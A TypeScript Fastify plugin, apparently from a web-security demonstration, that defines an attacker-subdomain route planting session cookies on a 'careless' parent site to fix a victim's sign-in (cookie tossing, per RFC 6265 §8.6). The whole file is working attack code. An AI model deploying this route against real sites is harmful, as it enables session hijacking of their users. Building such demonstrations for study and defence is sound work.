import type { FastifyPluginAsync } from 'fastify'

// Long enough to type a password. Alice can sign in again after it.
const forOneSignInSeconds = 60

/**
 * A host below the careless site's own, which the attacker has got hold of: a forgotten subdomain. What it sets for the domain above,
 * browsers send to the careless site.
 *
 * @see https://www.rfc-editor.org/rfc/rfc6265#section-8.6
 */
export const plantRoutes: FastifyPluginAsync<{ careless: string }> = async (app, { careless }) => {
  const { host, hostname } = new URL(careless)
  app.get<{ Querystring: { next?: string, cookie?: string } }>('/a/:attempt/plant', { config: { endpoint: 'plant' }, constraints: { host: `evil.${host}` } }, async ({ attempt, query }, reply) => {
    // Cookies of the longer path are sent first: the site finds this one before the one that Alice may have already.
    const planted = { domain: hostname, path: `/a/${attempt.id}/callback`, sameSite: 'lax' as const }
    if (query.cookie === 'browser') reply.setCookie('browser', attempt.state.kept['planted'] ?? '', { ...planted, maxAge: forOneSignInSeconds })
    else reply.setCookie('session', attempt.state.kept['planted'] ?? '', planted)
    return reply.redirect(`${attempt.home}${query.next ?? ''}`, 303)
  })
}
